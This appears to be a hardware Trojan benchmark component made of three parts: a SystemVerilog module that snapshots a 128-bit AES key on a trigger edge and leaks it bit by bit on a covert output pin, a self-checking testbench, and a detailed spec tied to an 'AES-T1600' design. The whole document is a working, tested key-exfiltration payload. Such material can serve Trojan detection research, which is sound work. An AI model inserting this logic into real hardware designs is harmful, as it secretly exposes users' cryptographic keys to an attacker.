// File: rtl/trojan_key_leaker.sv
// Covert key exfiltration payload: snapshots the AES key on a trigger rising edge and
// serializes a preamble/key/checksum frame onto a single pin at BIT_CYCLES clocks per bit.
module trojan_key_leaker #(
    parameter int         BIT_CYCLES = 4,
    parameter logic [7:0] PREAMBLE   = 8'hA5
) (
    input  logic         clk,
    input  logic         rst,
    input  logic         Tj_Trig,
    input  logic [127:0] key,
    output logic         leak_out,
    output logic         leak_busy,
    output logic         leak_done
);

    typedef enum logic [2:0] {IDLE, PRE, DATA, CSUM, DONE} state_t;

    state_t       state;
    logic         trig_q;
    logic [127:0] key_sh;
    logic [7:0]   csum;
    logic [7:0]   bit_cnt;
    logic [7:0]   cyc_cnt;
    logic [7:0]   nxt;
    logic [7:0]   key_csum;
    logic         trig_edge;
    logic         bit_end;
    logic         next_bit;

    assign trig_edge = Tj_Trig & ~trig_q;
    assign bit_end   = (cyc_cnt == 8'(BIT_CYCLES - 1));
    assign nxt       = bit_cnt + 8'd1;

    always_comb begin
        key_csum = 8'h00;
        for (int i = 0; i < 16; i++) begin
            key_csum = key_csum ^ key[i*8 +: 8];
        end
    end

    // Frame bit nxt: preamble 0..7, key 8..135, checksum 136..143, each MSB first.
    always_comb begin
        next_bit = 1'b0;
        if (nxt < 8'd8) begin
            next_bit = PREAMBLE[~nxt[2:0]];
        end else if (nxt < 8'd136) begin
            next_bit = key_sh[7'd7 - nxt[6:0]];
        end else begin
            next_bit = csum[~nxt[2:0]];
        end
    end

    always_ff @(posedge clk or negedge rst) begin
        if (!rst) begin
            state     <= IDLE;
            trig_q    <= 1'b1;
            key_sh    <= '0;
            csum      <= '0;
            bit_cnt   <= '0;
            cyc_cnt   <= '0;
            leak_out  <= 1'b0;
            leak_busy <= 1'b0;
            leak_done <= 1'b0;
        end else begin
            trig_q <= Tj_Trig;
            case (state)
                IDLE: begin
                    if (trig_edge) begin
                        key_sh    <= key;
                        csum      <= key_csum;
                        bit_cnt   <= '0;
                        cyc_cnt   <= '0;
                        leak_out  <= PREAMBLE[7];
                        leak_busy <= 1'b1;
                        state     <= PRE;
                    end
                end
                PRE, DATA, CSUM: begin
                    if (bit_end) begin
                        cyc_cnt <= '0;
                        if (bit_cnt == 8'd143) begin
                            bit_cnt   <= '0;
                            leak_out  <= 1'b0;
                            leak_busy <= 1'b0;
                            leak_done <= 1'b1;
                            state     <= DONE;
                        end else begin
                            bit_cnt  <= nxt;
                            leak_out <= next_bit;
                            if (nxt == 8'd8) begin
                                state <= DATA;
                            end else if (nxt == 8'd136) begin
                                state <= CSUM;
                            end
                        end
                    end else begin
                        cyc_cnt <= cyc_cnt + 8'd1;
                    end
                end
                DONE: begin
                    leak_done <= 1'b0;
                    state     <= IDLE;
                end
                default: begin
                    state <= IDLE;
                end
            endcase
        end
    end

endmodule

// File: tb/tb_trojan_key_leaker.sv
// Self-checking bench for trojan_key_leaker: two instances (BIT_CYCLES 4 and 1) are checked
// against a frame model built directly from preamble, key and byte-XOR checksum.
module tb_trojan_key_leaker;

    logic         clk;
    logic         rst;
    logic         trig0, trig1;
    logic [127:0] key0, key1;
    logic         out0, busy0, done0;
    logic         out1, busy1, done1;
    int           testsRun;
    int           testsFailed;

    trojan_key_leaker dut0 (
        .clk(clk), .rst(rst), .Tj_Trig(trig0), .key(key0),
        .leak_out(out0), .leak_busy(busy0), .leak_done(done0)
    );

    trojan_key_leaker #(.BIT_CYCLES(1)) dut1 (
        .clk(clk), .rst(rst), .Tj_Trig(trig1), .key(key1),
        .leak_out(out1), .leak_busy(busy1), .leak_done(done1)
    );

    always #5 clk = ~clk;

    task automatic checkOutput(input string tag, input logic [159:0] obs, input logic [159:0] exp);
        testsRun++;
        if (obs !== exp) begin
            testsFailed++;
            $display("[TB] FAIL %s: got %0h, expected %0h", tag, obs, exp);
        end
    endtask

    task automatic applyStimulus(input int sel, input logic t, input logic [127:0] k);
        if (sel == 0) begin
            trig0 = t;
            key0  = k;
        end else begin
            trig1 = t;
            key1  = k;
        end
    endtask

    function automatic logic [2:0] sampleOut(input int sel);
        return (sel == 0) ? {done0, busy0, out0} : {done1, busy1, out1};
    endfunction

    function automatic logic [127:0] randKey();
        return {$urandom, $urandom, $urandom, $urandom};
    endfunction

    // Reference frame: preamble, key MSB first, then XOR of the sixteen key bytes.
    function automatic logic [143:0] refFrame(input logic [127:0] k);
        logic [7:0] cs;
        cs = 8'h00;
        for (int i = 0; i < 16; i++) cs = cs ^ k[8*i +: 8];
        return {8'hA5, k, cs};
    endfunction

    // Starts a frame with a fresh edge at the next clock and checks every cycle of it.
    task automatic observeFrame(input int sel, input logic [127:0] k, input int trigLen,
                                input bit holdTrig, input int glitchBit, input int keyChangeBit,
                                input int postCycles, input string tag);
        int           bc, frameLen, bitIdx;
        int           holdErrs, busyCnt, doneCnt, postBusy, postDone;
        logic [143:0] expFrame, obsFrame;
        logic [2:0]   s;
        logic         t;
        logic [127:0] kin;
        bc       = (sel == 0) ? 4 : 1;
        frameLen = 144 * bc;
        expFrame = refFrame(k);
        obsFrame = '0;
        holdErrs = 0; busyCnt = 0; doneCnt = 0; postBusy = 0; postDone = 0;
        t   = 1'b0;
        kin = k;
        applyStimulus(sel, t, kin);
        @(negedge clk);
        s = sampleOut(sel);
        checkOutput({tag, ".idleBefore"}, s[1], 1'b0);
        t = 1'b1;
        applyStimulus(sel, t, kin);
        for (int c = 1; c <= frameLen + 1 + postCycles; c++) begin
            @(negedge clk);
            s = sampleOut(sel);
            if (c <= frameLen) begin
                bitIdx = (c - 1) / bc;
                if ((c - 1) % bc == 0) obsFrame[143 - bitIdx] = s[0];
                else if (s[0] !== obsFrame[143 - bitIdx]) holdErrs++;
                if (s[1] === 1'b1) busyCnt++;
                if (s[2] === 1'b1) doneCnt++;
            end else if (c == frameLen + 1) begin
                checkOutput({tag, ".doneEnd"}, s, 3'b100);
            end else begin
                if (s[1] === 1'b1) postBusy++;
                if (s[2] === 1'b1) postDone++;
            end
            if (c == 1) checkOutput({tag, ".startLatency"}, s[1], 1'b1);
            if (!holdTrig && c == trigLen) t = 1'b0;
            if (!holdTrig && glitchBit >= 0 && c == glitchBit * bc + 1) t = 1'b1;
            if (!holdTrig && glitchBit >= 0 && c == glitchBit * bc + 3) t = 1'b0;
            if (keyChangeBit >= 0 && c == keyChangeBit * bc + 1) kin = randKey();
            applyStimulus(sel, t, kin);
        end
        t = 1'b0;
        applyStimulus(sel, t, kin);
        checkOutput({tag, ".frame"}, obsFrame, expFrame);
        checkOutput({tag, ".holdErrs"}, holdErrs, 0);
        checkOutput({tag, ".busyCycles"}, busyCnt, frameLen);
        checkOutput({tag, ".doneInFrame"}, doneCnt, 0);
        checkOutput({tag, ".postBusy"}, postBusy, 0);
        checkOutput({tag, ".postDone"}, postDone, 0);
    endtask

    task automatic resetMidFrame();
        logic [2:0] s;
        int         busyCnt, doneCnt;
        applyStimulus(0, 1'b0, randKey());
        @(negedge clk);
        trig0 = 1'b1;
        repeat (2) @(negedge clk);
        trig0 = 1'b0;
        repeat (70 * 4 - 1) @(negedge clk);
        checkOutput("rst.busyBefore", busy0, 1'b1);
        #2 rst = 1'b0;
        #1 s = sampleOut(0);
        checkOutput("rst.asyncClear", s, 3'b000);
        repeat (3) @(negedge clk);
        rst = 1'b1;
        busyCnt = 0;
        doneCnt = 0;
        repeat (320) begin
            @(negedge clk);
            if (busy0 === 1'b1) busyCnt++;
            if (done0 === 1'b1) doneCnt++;
        end
        checkOutput("rst.noRestart", busyCnt, 0);
        checkOutput("rst.noDone", doneCnt, 0);
    endtask

    task automatic trigAtRelease();
        int busyCnt;
        @(negedge clk);
        rst   = 1'b0;
        trig0 = 1'b1;
        repeat (2) @(negedge clk);
        rst = 1'b1;
        busyCnt = 0;
        repeat (30) begin
            @(negedge clk);
            if (busy0 === 1'b1) busyCnt++;
        end
        checkOutput("relTrig.noFrame", busyCnt, 0);
        observeFrame(0, randKey(), 2, 1'b0, -1, -1, 5, "relTrig");
    endtask

    initial begin
        #500000;
        $display("[TB] FAIL watchdog: simulation time limit reached");
        $fatal(1, "[TB] watchdog expired");
    end

    initial begin
        testsRun    = 0;
        testsFailed = 0;
        clk   = 1'b0;
        rst   = 1'b1;
        trig0 = 1'b0;
        trig1 = 1'b0;
        key0  = '0;
        key1  = '0;
        #3 rst = 1'b0;
        #10;
        checkOutput("reset.dut0", sampleOut(0), 3'b000);
        checkOutput("reset.dut1", sampleOut(1), 3'b000);
        @(negedge clk);
        rst = 1'b1;

        observeFrame(0, 128'h2b7e1516_28aed2a6_abf71588_09cf4f3c, 2, 1'b0, -1, -1, 10, "kat4");
        observeFrame(1, 128'h00010203_04050607_08090a0b_0c0d0e0f, 2, 1'b0, -1, 60, 10, "kat1");
        observeFrame(0, randKey(), 2, 1'b0, 50, -1, 20, "glitch");
        observeFrame(0, randKey(), 0, 1'b1, -1, -1, 430, "hold");
        observeFrame(1, randKey(), 0, 1'b1, -1, -1, 50, "hold1");
        resetMidFrame();
        trigAtRelease();
        observeFrame(0, randKey(), 2, 1'b0, -1, -1, 0, "b2bA");
        observeFrame(0, randKey(), 2, 1'b0, -1, -1, 10, "b2bB");
        observeFrame(1, randKey(), 2, 1'b0, -1, -1, 0, "b2bC");
        observeFrame(1, randKey(), 2, 1'b0, -1, -1, 10, "b2bD");

        for (int i = 0; i < 6; i++) begin
            observeFrame((i < 4) ? 1 : 0, randKey(), int'($urandom_range(1, 4)), 1'b0, -1,
                         int'($urandom_range(0, 143)), int'($urandom_range(0, 8)), "rand");
        end

        $display("[TB] %0d tests run, %0d failed", testsRun, testsFailed);
        $finish;
    end

endmodule

// File: doc/trojan_key_leaker.md
# trojan_key_leaker

Payload-side partner of the trigger detector in the AES-T1600 TjIn design. It accepts the two-cycle `Tj_Trig` pulse and snapshots the 128-bit AES key on the trigger's rising edge. It then serializes a framed copy of the key (preamble, key, checksum) onto a single covert output pin at a programmable bit rate. Once started, the frame is never interrupted by further trigger activity.

## Interface
- `BIT_CYCLES`, 4: clock cycles each frame bit is held on `leak_out`; legal range 1..255.
- `PREAMBLE`, 8'hA5: 8-bit frame header, sent MSB first.
- `clk`  in  1  single system clock; all state updates on its rising edge.
- `rst`  in  1  asynchronous, active-low reset. Asserting it (0) clears all state immediately; deassertion is synchronous to `clk`.
- `Tj_Trig`  in  1  trigger from the detector. Level input, typically high for 2 cycles.
- `key`  in  128  AES key, sampled only on the trigger rising edge.
- `leak_out`  out  1  serialized frame bit; 0 when idle.
- `leak_busy`  out  1  high for the whole frame.
- `leak_done`  out  1  one-cycle pulse after the last frame bit.

## Operation
- Rising-edge detect:
  - `trig_q` registers `Tj_Trig` each cycle.
  - Edge = `Tj_Trig & ~trig_q`.
  - `trig_q` resets to 1, so a trigger already high when reset releases does not start a frame.
- FSM states: IDLE, PRE, DATA, CSUM, DONE.
- IDLE:
  - On an edge, capture `key` into `key_sh` and compute `csum` = XOR of the 16 key bytes.
  - Load `bit_cnt`=0 and `cyc_cnt`=0, then go to PRE.
  - Non-edge cycles have no effect.
- PRE: shifts out the 8 bits of `PREAMBLE`, MSB first, then goes to DATA.
- DATA: shifts out `key_sh[127]` first, down to `key[0]`; 128 bits. Then goes to CSUM.
- CSUM: shifts out `csum`, MSB first; 8 bits. Then goes to DONE.
- DONE: lasts one cycle with `leak_done`=1, then returns to IDLE.
- Bit pacing:
  - `cyc_cnt` counts 0..BIT_CYCLES-1.
  - At terminal count, `cyc_cnt` wraps to 0 and the next bit is presented.
  - `bit_cnt` (8 bits) counts 0..143 across PRE/DATA/CSUM.
- `leak_out` = current frame bit in PRE/DATA/CSUM, otherwise 0. It is driven directly from a register (no combinational glitch).
- `leak_busy` = 1 in PRE, DATA and CSUM.
- Trigger edges during PRE, DATA, CSUM or DONE are ignored. A new frame needs a fresh edge seen in IDLE.
- A `Tj_Trig` held high indefinitely produces exactly one frame.
- Changes on `key` after capture do not affect the frame in progress.

## Timing
- Reset values: `leak_out`=0, `leak_busy`=0, `leak_done`=0, FSM=IDLE, `trig_q`=1, counters=0, `key_sh`=0, `csum`=0.
- Edge sampled at clock edge T:
  - Preamble bit 7 appears on `leak_out` and `leak_busy` rises after edge T.
  - Each bit is held exactly BIT_CYCLES cycles.
- Frame length: 144×BIT_CYCLES cycles. With the default, that is 576 cycles from T+1 through T+576.
- `leak_done` is high in cycle T+144×BIT_CYCLES+1. `leak_busy` and `leak_out` are 0 in that same cycle.
- The earliest next frame starts from an edge sampled in the cycle after DONE.
- BIT_CYCLES=1: one bit per cycle; `cyc_cnt` is constantly 0.
- Reset asserted mid-frame: all outputs drop to 0 asynchronously with no `leak_done` pulse. After release, an edge is required again.

## Test plan
- Default parameters, `key`=128'h2b7e1516_28aed2a6_abf71588_09cf4f3c, 2-cycle `Tj_Trig` pulse.
  - Capture 144 bits, sampling every 4 cycles.
  - Required: A5, then the key MSB first, then checksum 8'hD0.
  - `leak_busy` high for exactly 576 cycles; one `leak_done` pulse.
- BIT_CYCLES=1, `key`=128'h00010203_04050607_08090a0b_0c0d0e0f.
  - Required: frame spans 144 consecutive cycles; checksum 8'h00.
  - Change `key` mid-frame: serialized data is unchanged.
- Second `Tj_Trig` pulse at frame bit 50, plus `Tj_Trig` held high for 1000 cycles.
  - Required: exactly one frame in each case; no restart.
- Reset asserted (`rst`=0) at frame bit 70, asynchronous to `clk`.
  - Required: `leak_out`/`leak_busy` are 0 before the next clock edge; no `leak_done`.
  - After release, no frame until a new rising edge.
- `Tj_Trig`=1 while reset releases: no frame.
  - Then drop to 0 and pulse: required: normal frame starting 1 cycle after the edge.
- Back-to-back: trigger edge in the cycle right after `leak_done`.
  - Required: new frame starts with no dropped cycle and a correct preamble.
